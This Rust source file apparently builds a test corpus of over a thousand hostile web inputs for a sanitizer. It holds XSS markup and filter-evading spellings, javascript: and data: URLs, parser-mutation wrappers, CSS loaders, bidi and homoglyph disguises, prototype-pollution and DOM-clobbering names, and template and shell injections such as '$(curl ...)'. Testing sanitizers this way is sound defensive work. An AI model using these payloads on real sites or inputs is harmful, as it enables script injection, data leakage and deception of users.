//! A collection of hostile texts, made of small tables: each row of a table meets each of
//! another.
//!
//! In the tables `«js»` stands for a script that tells on itself, `«url»` for an address that
//! nobody may ask for, `«html»` for the shortest markups that run a script, `«css»` for styles
//! that load something; each text has a number of its own in them.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// A hostile text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Vector {
    /// What it tries.
    pub(crate) class: &'static str,
    pub(crate) text: String,
}

/// Elements with what makes them act by themselves, before a handler.
const ELEMENTS: &[&str] = &[
    "<img src=x",
    "<img src=«url»",
    "<image src=x",
    "<svg",
    "<svg><animate attributeName=x dur=1s",
    "<svg><set attributeName=x",
    "<svg><image href=x",
    "<svg><script href=«url»",
    "<math",
    "<body",
    "<video src=x",
    "<video><source src=x",
    "<video src=«url»><track default src=«url»",
    "<audio src=x autoplay",
    "<input autofocus",
    "<input type=image src=«url»",
    "<select autofocus",
    "<textarea autofocus",
    "<button autofocus",
    "<a tabindex=1 autofocus href=#",
    "<p contenteditable autofocus",
    "<details open",
    "<dialog open",
    "<marquee width=1",
    "<iframe src=x",
    "<frameset><frame src=x",
    "<object data=x",
    "<embed src=x",
    "<link rel=stylesheet href=«url»",
    "<style",
    "<script src=«url»",
    "<table background=«url»",
    "<unknown tabindex=1 autofocus style=display:block",
    "<vitrine-archive src=«url»",
];

/// Handlers of events that come without a person.
const HANDLERS: &[&str] = &[
    "onload",
    "onerror",
    "onfocus",
    "onfocusin",
    "ontoggle",
    "onbegin",
    "onstart",
    "onloadstart",
    "onanimationstart",
    "oncanplay",
    "onpageshow",
    "onresize",
    "onbeforetoggle",
    "oncontentvisibilityautostatechange",
];

/// Markups that run a script wherever they are parsed.
const MARKUPS: &[&str] = &[
    "<script>«js»</script>",
    "<img src=x onerror=«js»>",
    "<svg onload=«js»>",
    "<iframe src=javascript:«js»></iframe>",
];

/// Spellings of a tag that filters stumble over.
const SPELLINGS: &[&str] = &[
    "<ImG sRc=x OnErRoR=«js»>",
    "<img/src=x/onerror=«js»>",
    "<img\tsrc=x\tonerror=«js»>",
    "<img\nsrc=x\nonerror\n=\n«js»>",
    "<img\u{c}src=x onerror=«js»>",
    "<img src=x onerror\r\n=«js»",
    "<img src=x onerror=«js» //",
    "<img src=x:x onerror=\"«js»\" \"\">",
    "<img \"\"\"><script>«js»</script>\">",
    "<img src=`x`onerror=«js»>",
    "<img src='x'onerror='«js»'>",
    "<img src=x onerror=&#104;it(«n»)>",
    "<img src=x onerror=\\u0068it(«n»)>",
    "<img src=x one\u{0}rror=«js»>",
    "<im\u{0}g src=x onerror=«js»>",
    "<<img src=x onerror=«js»>",
    "< img src=x onerror=«js»>",
    "<img src=x onerror=«js»<b>",
    "<img src=x x=\"<\" onerror=«js»>",
    "<scr<script>ipt>«js»</scr</script>ipt>",
    "<script\n>«js»</script\n>",
    "<script/x>«js»</script/x>",
    "<script>«js»",
    "<script type=module>«js»</script>",
    "<script>//<!--\n«js»//--></script>",
    "<SCRIPT SRC=«url»></SCRIPT>",
    "<script src=//«host»/«n»></script>",
    "<script src=data:text/javascript,«js»></script>",
    "<script type=text/javascript src=data:,«js»></script>",
    "<script>import('«url»')</script>",
    "<script>fetch('«url»');new Image().src='«url»'</script>",
    "<script>navigator.sendBeacon('«url»')</script>",
    "<script>__vitrine('«n»');__vitrineCore(()=>«js»)</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"«url»\"]}]}</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"«url»\"}}</script>",
];

/// Places for an address, `«to»`.
const CARRIERS: &[&str] = &[
    "<a href=\"«to»\" id=x>«n»</a>",
    "<a href='«to»' target=_self>«n»</a>",
    "<a href=# ping=\"«to»\">«n»</a>",
    "<area href=\"«to»\" shape=default>",
    "<iframe src=\"«to»\"></iframe>",
    "<object data=\"«to»\"></object>",
    "<embed src=\"«to»\">",
    "<form action=\"«to»\"><button>«n»</button></form>",
    "<button formaction=\"«to»\">«n»</button>",
    "<svg><a href=\"«to»\"><text y=9>«n»</text></a></svg>",
    "<svg><a xlink:href=\"«to»\"><text y=9>«n»</text></a></svg>",
    "<svg><use href=\"«to»#x\"/></svg>",
    "<svg><image href=\"«to»\"/></svg>",
    "<svg><animate attributeName=href values=\"«to»\"/></svg>",
    "<math href=\"«to»\">«n»</math>",
    "<link rel=stylesheet href=\"«to»\">",
    "<link rel=preload as=script href=\"«to»\">",
    "<base href=\"«to»\">",
    "<meta http-equiv=refresh content=\"0;url=«to»\">",
    "<img src=\"«to»\">",
    "<img srcset=\"«to» 1x\">",
    "<video poster=\"«to»\"></video>",
    "[«n»](«to»)",
    "![«n»](«to»)",
    "[«n»]\n\n[«n»]: <«to»>",
    "<«to»>",
    "«to»",
];

/// Addresses that run, read or ask what they may not.
const ADDRESSES: &[&str] = &[
    "javascript:«js»",
    "JaVaScRiPt:«js»",
    "java\tscript:«js»",
    "java&#10;script:«js»",
    "&#106;avascript:«js»",
    "&#x6A;avascript&colon;«js»",
    "\u{1}javascript:«js»",
    " \u{a0}javascript:«js»",
    "javascript://%0a«js»",
    "%6Aavascript:«js»",
    "javascript&#58;«js»//https://example.org/",
    "data:text/html,<script>«js»</script>",
    "data:text/html;base64,«base64»",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='«js»'/>",
    "vbscript:«js»",
    "view-source:javascript:«js»",
    "blob:javascript:«js»",
    "file:///etc/hostname?«n»",
    "//«host»/«n»",
    "«url»",
    "\\\\«host»\\«n»",
    "ws://«host»/«n»",
    "https:«url»",
    "../../../«n»",
    "mailto:a@example.org?«n»&body=%3Cscript%3E«js»%3C/script%3E",
];

/// Surroundings in which a parser sees, the second time, what it did not see the first time.
const MUTATIONS: &[&str] = &[
    "<svg><style>«html»</style></svg>",
    "<svg></p><style><a id=\"</style>«html»\">",
    "<math><mi><style><!--</style>«html»--></mi></math>",
    "<math><mtext><table><mglyph><style><!--</style>«html»",
    "<form><math><mtext></form><form><mglyph><style></math>«html»",
    "<svg><desc><noscript>«html»</noscript></desc></svg>",
    "<svg><foreignObject>«html»</foreignObject></svg>",
    "<svg><title><template>«html»</template></title></svg>",
    "<math><annotation-xml encoding=text/html>«html»</annotation-xml></math>",
    "<noscript><p title=\"</noscript>«html»\">",
    "<textarea><p title=\"</textarea>«html»\">",
    "<xmp><p title=\"</xmp>«html»\">",
    "<noembed><p title=\"</noembed>«html»\">",
    "<template>«html»</template>",
    "<template shadowrootmode=open>«html»</template>",
    "<select><option><style></select>«html»",
    "<table><td><table>«html»",
    "<a><a><a><table><a>«html»",
    "<!-->«html»-->",
    "<!--><p title=\"-->«html»\">",
    "<!--!>«html»",
    "<![CDATA[«html»]]>",
    "<svg><![CDATA[>«html»]]></svg>",
    "<?xml version=1?>«html»<?x >",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"«url»\">]>&y;«html»",
    "<iframe srcdoc=\"«html»\"></iframe>",
    "<plaintext>«html»",
];

/// Ends of the place that a text stands in.
const ENDS: &[&str] = &[
    "\">",
    "'>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</a></p></article>",
    "]]>",
    "-->",
    "*/",
    "%>",
    "`>",
    "</vitrine-archive>",
    "\\\">",
    "\u{2028}",
];

/// Markup that is not there until somebody decodes it.
const ENCODERS: &[fn(&str) -> String] = &[
    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
    |text| text.replace('<', "&amp;lt;").replace('>', "&amp;gt;"),
    |text| text.replace('<', "&#60").replace('>', "&#62"),
    |text| text.replace('<', "&#x000003c;").replace('>', "&GT;"),
    |text| text.replace('<', "%3C").replace('>', "%3E"),
    |text| text.replace('<', "%253C").replace('>', "%253E"),
    |text| text.replace('<', "\\u003c").replace('>', "\\u003e"),
    |text| text.replace('<', "\\x3c").replace('>', "\\x3e"),
    |text| text.replace('<', "＜").replace('>', "＞"),
    |text| text.replace('<', "‹").replace('>', "›"),
    |text| text.replace('<', "+ADw-").replace('>', "+AD4-"),
    |text| text.replace('<', "%C0%BC").replace('>', "%C0%BE"),
    |text| text.replace('<', "<\u{200b}").replace('>', "\u{ad}>"),
    |text| format!("=?utf-8?B?{}?=", STANDARD.encode(text)),
];

/// What templates and shells would fill in.
const TEMPLATES: &[&str] = &[
    "{{constructor.constructor('«js»')()}}",
    "{{title}}{{root}}{{meta}}{{lists}}«n»",
    "{count}{query}{0}%s%n%1$s$& $` $1 «n»",
    "${«js»}",
    "`${«js»}`",
    "#{«js»}",
    "<%= «js» %>",
    "{% «js» %}",
    "[[${«js»}]]",
    "*{«js»}",
    "@(«js»)",
    "<?php «js» ?>",
    "$(curl «url»)",
    "`curl «url»`",
    "=HYPERLINK(\"«url»\";\"«n»\")",
    "@import('«url»')",
    "\");«js»;//",
    "';«js»;'",
    "\\\";«js»;//",
    "</script><!--<script>«js»",
];

/// Styles that load something, run something or cover what is there.
const STYLES: &[&str] = &[
    "@import url(«url»);",
    "@import '«url»' layer(x);",
    "*{background:url(«url»)}",
    "*{background:u\\72l(«url»)}",
    "@font-face{font-family:x;src:url(«url»)}*{font-family:x}",
    ":host{display:none;cursor:url(«url»),auto}",
    "*{width:expression(«js»);behavior:url(«url»);-moz-binding:url(«url»)}",
    "*{list-style:url(javascript:«js»)}",
    "*{content:image-set('«url»' 1x);mask:url(«url»#x)}",
    "*{position:fixed;inset:0;z-index:99999;animation:x 1s «n»}",
];

/// Places for styles.
const SHEETS: &[&str] = &[
    "<style>«css»</style>",
    "<svg><style>«css»</style></svg>",
    "<b style=\"x:y}«css»\">«n»</b>",
    "#1a5f7a;}«css»",
    "<link rel=stylesheet href=\"data:text/css,«css»\">",
];

/// Characters that turn, hide or join what is written.
const CONTROLS: &[char] = &[
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{200e}',
    '\u{200f}',
    '\u{61c}',
    '\u{200b}',
    '\u{200d}',
    '\u{2060}',
    '\u{feff}',
    '\u{ad}',
    '\u{e0041}',
];

/// Texts with such a character, `«c»`.
const DISGUISES: &[&str] = &[
    "Report «n» «c»fdp.exe",
    "«c»«c»«c»Report «n»",
    "java«c»script:«js»",
    "https://example.org/«c»gro.elpmaxe//:sptth/«n»",
    "<im«c»g src=x onerror=«js»>",
];

/// Words that look like others.
const LOOKALIKES: &[&str] = &[
    "јavascript:«js»",
    "ｊａｖａｓｃｒｉｐｔ：«js»",
    "javascript\u{a789}«js»",
    "https://ехаmple.org/«n»",
    "https://example.org\u{2044}@«host»/«n»",
    "https://example。org/«n»",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}a «n»",
];

/// Names that every object has, or that a page has.
const NAMES: &[&str] = &[
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "trustedTypes",
    "customElements",
    "currentScript",
    "getElementById",
    "__vitrine",
    "Vitrine",
    "vitrine.js",
    "data/root.js",
    "body",
    "location",
];

/// Places for such a name, `«name»`.
const BINDINGS: &[&str] = &[
    "«name»",
    "{\"«name»\":{\"polluted\":«n»}}",
    "«name»[polluted]=«n»",
    "#/article/«name»?q=«name»&«name»=«n»",
    "<img name=\"«name»\" src=x>",
    "<form id=\"«name»\"><input name=\"«name»\"></form>",
    "<a id=\"«name»\"></a><a id=\"«name»\" name=src href=\"«url»\">«n»</a>",
    "<iframe name=\"«name»\" srcdoc=\"<a id=x href='«url»'>\"></iframe>",
];

/// Returns the collection; its addresses lead to `host`, a name and a port.
pub(crate) fn vectors(host: &str) -> Vec<Vector> {
    let as_it_is: fn(&str) -> String = str::to_owned;
    let handlers = ELEMENTS.iter().flat_map(|element| {
        let quotes = ["", "\"", "'"].into_iter().cycle();
        HANDLERS.iter().zip(quotes).map(move |(handler, quote)| {
            format!("{element} {handler}={quote}«js»{quote}>")
        })
    });
    let ends = product(&["«end»«html»"], "«end»", ENDS);
    let ends: Vec<&str> = ends.iter().map(String::as_str).collect();
    let controls: Vec<String> = CONTROLS.iter().map(char::to_string).collect();
    let controls: Vec<&str> = controls.iter().map(String::as_str).collect();
    let plain = [
        ("handlers", handlers.collect()),
        ("spellings", product(SPELLINGS, "«»", &[""])),
        ("addresses", product(CARRIERS, "«to»", ADDRESSES)),
        ("mutations", product(MUTATIONS, "«html»", MARKUPS)),
        ("ends", product(&ends, "«html»", MARKUPS)),
        ("templates", product(TEMPLATES, "«»", &[""])),
        ("styles", product(SHEETS, "«css»", STYLES)),
        ("disguises", product(DISGUISES, "«c»", &controls)),
        ("lookalikes", product(LOOKALIKES, "«»", &[""])),
        ("names", product(BINDINGS, "«name»", NAMES)),
    ];
    let plain = plain.into_iter().flat_map(|(class, texts)| {
        texts.into_iter().map(move |text| (class, text, as_it_is))
    });
    let encoded = ENCODERS.iter().flat_map(|encode| {
        MARKUPS.iter().map(|markup| ("encodings", (*markup).to_owned(), *encode))
    });
    let filled =
        plain.chain(encoded).enumerate().map(|(number, (class, text, encode))| Vector {
            class,
            text: encode(&filled(&text, number, host)),
        });
    filled.collect()
}

/// Every text with each of the values in the place of `mark`.
fn product(texts: &[&str], mark: &str, values: &[&str]) -> Vec<String> {
    let with = |text: &&str| {
        let text = (*text).to_owned();
        values.iter().map(move |value| text.replace(mark, value))
    };
    texts.iter().flat_map(with).collect()
}

/// A text with what depends on its number in it.
fn filled(text: &str, number: usize, host: &str) -> String {
    let js = format!("top.hit({number})");
    text.replace("«url»", "http://«host»/«n»")
        .replace("«base64»", &STANDARD.encode(format!("<script>{js}</script>")))
        .replace("«js»", &js)
        .replace("«n»", &number.to_string())
        .replace("«host»", host)
}

#[test]
fn there_are_more_than_a_thousand_of_them_and_no_two_are_the_same() {
    let all = vectors("127.0.0.1:1");
    let texts: std::collections::BTreeSet<_> =
        all.iter().map(|vector| &vector.text).collect();
    assert!(
        texts.len() == all.len() && all.len() > 1000,
        "{} of {}",
        texts.len(),
        all.len()
    );
    let left = all.iter().find(|vector| vector.text.contains(['«', '»']));
    assert_eq!(left, None, "a place was not filled");
}
